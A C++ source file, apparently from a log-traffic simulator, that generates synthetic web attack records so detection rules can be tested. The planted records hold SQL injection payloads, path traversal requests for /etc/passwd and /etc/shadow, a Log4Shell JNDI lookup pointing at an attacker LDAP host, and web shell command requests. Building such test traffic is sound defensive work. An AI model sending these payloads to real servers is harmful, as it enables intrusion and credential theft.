// Attacks on the public web server.

#include <fmt/format.h>

#include "traffic/attack.h"
#include "traffic/rule_ids.h"
#include "traffic/web.h"

namespace weir::traffic {
namespace {

using std::chrono::milliseconds;
using std::chrono::seconds;

constexpr std::string_view kBrowser =
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/136.0.0.0 Safari/537.36";

PlantedRecord planted(const WebRequest& request) {
  PlantedRecord record{Source::web, request.time, {}};
  append_web_line(record.bytes, request);
  return record;
}

std::optional<Attack> sql_injection(Stage& stage) {
  const std::optional<EventTime> time = stage.moment(seconds(20));
  if (!time) return std::nullopt;
  Attack attack{.title = "SQL injection in the site's search",
                .technique = "T1190",
                .rules = {rule_id("web/sql_injection")},
                .source = Source::web,
                .host = "www"};
  EventTime at = *time;
  for (const std::string_view target :
       {"/search?q=card%27+UNION+ALL+SELECT+NULL,username,password+FROM+users--+-&page=1",
        "/search?q=1%27%20AND%20SLEEP(5)--%20-&page=1",
        "/search?q=x%27+UNION+SELECT+table_name+FROM+information_schema.tables--+-&page=1"}) {
    attack.records.push_back(planted(
        {.time = at, .client = "203.0.113.31", .target = target, .status = 500, .bytes = 1843, .agent = kBrowser}));
    at += milliseconds(stage.random().between(700, 5'000));
  }
  return attack;
}

std::optional<Attack> path_traversal(Stage& stage) {
  const std::optional<EventTime> time = stage.moment(seconds(10));
  if (!time) return std::nullopt;
  Attack attack{.title = "Path traversal to /etc/passwd",
                .technique = "T1190",
                .rules = {rule_id("web/path_traversal")},
                .source = Source::web,
                .host = "www"};
  EventTime at = *time;
  for (const std::string_view target :
       {"/help/download?file=../../../../../../etc/passwd", "/help/download?file=..%2f..%2f..%2f..%2fetc%2fshadow"}) {
    attack.records.push_back(planted(
        {.time = at, .client = "203.0.113.47", .target = target, .status = 200, .bytes = 2911, .agent = kBrowser}));
    at += milliseconds(stage.random().between(900, 3'000));
  }
  return attack;
}

std::optional<Attack> log4shell(Stage& stage) {
  const std::optional<EventTime> time = stage.moment(seconds(1));
  if (!time) return std::nullopt;
  Attack attack{.title = "Log4Shell probe in the user agent",
                .technique = "T1190",
                .rules = {rule_id("web/log4shell_lookup")},
                .source = Source::web,
                .host = "www"};
  attack.records.push_back(planted({.time = *time,
                                    .client = "203.0.113.52",
                                    .target = "/login",
                                    .bytes = 5120,
                                    .agent = "${jndi:ldap://203.0.113.52:1389/Basic/Command}"}));
  return attack;
}

std::optional<Attack> web_shell(Stage& stage) {
  const std::optional<EventTime> time = stage.moment(seconds(120));
  if (!time) return std::nullopt;
  Attack attack{.title = "Commands through an uploaded web shell",
                .technique = "T1505.003",
                .rules = {rule_id("web/web_shell_command")},
                .source = Source::web,
                .host = "www"};
  EventTime at = *time;
  for (const std::string_view target : {"/uploads/avatar.php?cmd=whoami", "/uploads/avatar.php?cmd=cat%20/etc/hosts",
                                        "/uploads/avatar.php?cmd=uname%20-a"}) {
    attack.records.push_back(planted(
        {.time = at, .client = kAttackerAddress, .target = target, .status = 200, .bytes = 87, .agent = kBrowser}));
    at += seconds(stage.random().between(4, 35));
  }
  return attack;
}

constexpr std::array<Scenario, 4> kScenarios = {{
    {"web-sql-injection", sql_injection},
    {"web-path-traversal", path_traversal},
    {"web-log4shell", log4shell},
    {"web-shell", web_shell},
}};

}  // namespace

std::span<const Scenario> web_scenarios() {
  return kScenarios;
}

}  // namespace weir::traffic
